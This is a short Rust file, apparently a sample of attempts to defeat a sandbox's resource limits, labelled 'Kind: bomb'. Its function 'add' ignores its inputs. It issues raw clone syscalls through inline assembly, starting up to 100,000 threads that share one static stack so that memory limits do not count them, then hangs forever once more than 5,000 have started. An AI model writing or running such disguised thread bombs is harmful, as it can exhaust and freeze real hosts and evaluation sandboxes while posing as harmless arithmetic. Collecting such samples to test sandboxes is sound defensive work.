// Tries: start threads that share one stack, so that no limit on memory counts them
// Kind: bomb

static mut STACK: [u64; 512] = [0; 512];

#[cfg(target_arch = "x86_64")]
fn start() -> i64 {
    let mut found = 56i64;
    unsafe {
        std::arch::asm!(
            "syscall", "test rax, rax", "jnz 2f", "3:", "mov eax, 34", "syscall", "jmp 3b", "2:",
            inout("rax") found, in("rdi") 0x50f00u64, in("rsi") &raw mut STACK as u64 + 2048,
            in("rdx") 0u64, in("r10") 0u64, in("r8") 0u64, out("rcx") _, out("r11") _,
        );
    }
    found
}

#[cfg(not(target_arch = "x86_64"))]
fn start() -> i64 { std::thread::Builder::new().stack_size(1).spawn(|| std::thread::park()).map_or(-1, |_| 1) }

pub fn add(_: i64, _: i64) -> i64 {
    let started = (0..100_000).take_while(|_| start() > 0).count() as i64;
    if started > 5_000 { loop { std::thread::park() } }
    started + 1_000
}
